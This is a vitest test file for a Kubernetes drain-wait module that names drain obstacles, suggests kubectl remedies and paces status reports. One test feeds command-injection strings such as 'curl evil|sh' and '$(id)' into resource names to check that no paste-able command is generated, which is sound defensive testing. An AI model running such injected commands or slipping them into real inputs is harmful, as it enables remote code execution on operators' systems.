import { describe, expect, it } from 'vitest'
import { sampleMeta, samplePod, sampleTime } from '../../test/samples/sample-objects.ts'
import type { HoldCause } from './drain.ts'
import {
  type DrainReported,
  firstOf,
  type Hold,
  isVmLookDue,
  newsFor,
  nothingReported,
  podHold,
  type Refusal,
  remedyFor,
  reportDistanceMs,
  sinceWhen,
  subjectOf,
  volumeHold,
  waitsText,
} from './drain-waits.ts'

const now = sampleTime
const minute = 60_000
const blocked = (what: string): Hold => ({ what, isBlocked: true })
const pending = (what: string, dueMs?: number): Hold => ({
  what,
  isBlocked: false,
  ...(dueMs === undefined ? {} : { dueMs }),
})
const reported = (change: Partial<DrainReported>): DrainReported => ({ ...nothingReported, ...change })

describe('obstacles to a drain are named', () => {
  const refusal = (kind: Refusal['kind'], ...budgets: string[]): Refusal => ({ kind, message: 'said so', budgets })
  it.each<[HoldCause, Refusal | undefined, string | undefined, boolean, string?]>([
    [
      'eviction',
      refusal('budget', 'default/web'),
      'evicting pod violates a PDB (Pod=default/p, PodDisruptionBudget=[default/web])',
      true,
      'kubectl edit pdb --namespace default web',
    ],
    [
      'eviction',
      refusal('manyBudgets', 'default/a', 'default/b'),
      'eviction does not support multiple PDBs (Pod=default/p, PodDisruptionBudget(s)=[default/a default/b])',
      true,
      'kubectl edit pdb --namespace default a b',
    ],
    ['eviction', refusal('other'), 'evicting pod fails (Pod=default/p): said so', true],
    ['eviction', undefined, 'pod default/p is to be evicted', false],
    [
      'doNotDisrupt',
      undefined,
      'pod default/p has the annotation karpenter.sh/do-not-disrupt',
      true,
      'kubectl annotate pod --namespace default p karpenter.sh/do-not-disrupt-',
    ],
    ['terminating', undefined, 'pod default/p is terminating', false],
    ['forced', undefined, 'pod default/p is deleted by force, as the time of its NodeClaim ends', false],
    ['laterTier', undefined, undefined, false],
  ])('%s', (cause, refused, what, isBlocked, remedy) => {
    const hold = podHold({ pod: samplePod('p'), cause }, refused)
    expect(hold?.what).toBe(what)
    expect(hold?.isBlocked ?? false).toBe(isBlocked)
    expect(hold && remedyFor(hold)).toBe(remedy)
    expect(hold && subjectOf(hold)).toEqual(hold && { cause, name: 'default/p' })
  })

  it.each([
    'evicting pod fails (Pod=shop/p): denied: PodDisruptionBudget=[shop/web;curl evil|sh shop/b]',
    'evicting pod fails (Pod=shop/p): violates a PDB (Pod=shop/p, PodDisruptionBudget=[shop/web])',
    'evicting pod violates a PDB (Pod=shop/p, PodDisruptionBudget=[shop/$(id)])',
    'pod shop/$(id) has the annotation karpenter.sh/do-not-disrupt',
    'VolumeAttachment `id` of PersistentVolume data is not detached',
  ])('words of others give no command to paste: %s', (what) => {
    expect(remedyFor({ what })).toBeUndefined()
  })

  it('a volume, and names of any length within bounds', () => {
    const attachment = (name: string) => ({
      kind: 'VolumeAttachment' as const,
      metadata: sampleMeta(name),
      nodeName: 'a',
      persistentVolumeName: 'data',
    })
    const hold = volumeHold(attachment('csi-1'))
    expect(hold.what).toBe('VolumeAttachment csi-1 of PersistentVolume data is not detached')
    expect(remedyFor(hold)).toBe('kubectl describe volumeattachment csi-1')
    const long = firstOf(
      sinceWhen(
        Array.from({ length: 9 }, (_, i) => volumeHold(attachment(`${i}`.repeat(253)))),
        [],
        now,
      ),
    )
    expect(long.more).toBe(4)
    const cut = podHold({ pod: samplePod('p'), cause: 'eviction' }, refusal('budget', `default/${'x'.repeat(300)}`))
    expect(cut && remedyFor(cut)).toBeUndefined()
    expect(JSON.stringify({ reported: { waits: long }, waits: long }).length).toBeLessThan(4096)
  })
})

it('keeps the time of known obstacles; blocked ones come first', () => {
  const before = [{ what: 'b', sinceMs: now - minute }]
  expect(
    sinceWhen([pending('c'), pending('b'), blocked('z'), blocked('a')], before, now).map(({ what, sinceMs }) => [
      what,
      now - sinceMs,
    ]),
  ).toEqual([
    ['a', 0],
    ['z', 0],
    ['b', minute],
    ['c', 0],
  ])
})

describe('a lifecycle gets reports of', () => {
  /** Returns the report of a hold of this age, to a caller who called this long ago. */
  const news = (hold: Hold, forMs: number, caller: DrainReported = nothingReported, askedForMs = forMs) =>
    newsFor(caller, { seen: [{ ...hold, sinceMs: now - forMs }], askedMs: now - askedForMs, now })?.on.map(
      ({ what }) => what,
    )

  it.each<[string, Hold, number, boolean]>([
    ['what is blocked', blocked('p'), 10_000, true],
    ['what has just been blocked', blocked('p'), 9999, false],
    ['what ends by itself', pending('p'), 59_999, false],
    ['what should have ended', pending('p'), 60_000, true],
    ['a pod within its grace period', pending('p', now - 9999), 30_000, false],
    ['a pod past its grace period', pending('p', now - 10_000), 30_000, true],
  ])('%s', (_, hold, forMs, isReported) => {
    expect(news(hold, forMs)).toEqual(isReported ? ['p'] : undefined)
  })

  it('the same thing once, and that it is over', () => {
    const known = reported({ waits: { on: [{ what: 'p', sinceMs: now - minute }], more: 0 }, reports: 1 })
    expect(news(blocked('p'), minute, known, minute)).toBeUndefined()
    expect(news(blocked('q'), minute, known, minute)).toEqual(['q'])
    expect(newsFor(known, { seen: [], askedMs: now - minute, now })).toEqual({ on: [], more: 0 })
  })

  it('rarely in a long drain, however often the reasons change', () => {
    let reports = 0
    for (let at = 0; at < 6 * 60 * minute; at += reportDistanceMs(reports)) reports += 1
    expect(reports).toBeLessThan(32)
    expect([0, 1, 2, 20].map(reportDistanceMs)).toEqual([10_000, 20_000, 40_000, 15 * minute])
    expect(news(blocked('p'), minute, reported({ reports: 5 }), 5 * minute)).toBeUndefined()
    expect(news(blocked('p'), minute, reported({ reports: 5 }), 6 * minute)).toEqual(['p'])
  })
})

it('checks for the VM of a silent node at once, and then more and more rarely', () => {
  expect(isVmLookDue(nothingReported, now, now)).toBe(true)
  expect(isVmLookDue(reported({ vmLooks: 1 }), now - 9999, now)).toBe(false)
  expect(isVmLookDue(reported({ vmLooks: 1 }), now - 10_000, now)).toBe(true)
  expect(isVmLookDue(reported({ vmLooks: 2 }), now - 10_000, now)).toBe(false)
})

it('says since when', () => {
  expect(waitsText({ on: [{ what: 'a', sinceMs: now }], more: 0 })).toBe('a, since 2026-01-01T00:00:00Z')
  expect(waitsText({ on: [{ what: 'a', sinceMs: now }], more: 2 })).toBe('a, since 2026-01-01T00:00:00Z; and 2 more')
  expect(waitsText(nothingReported.waits)).toBe('')
})
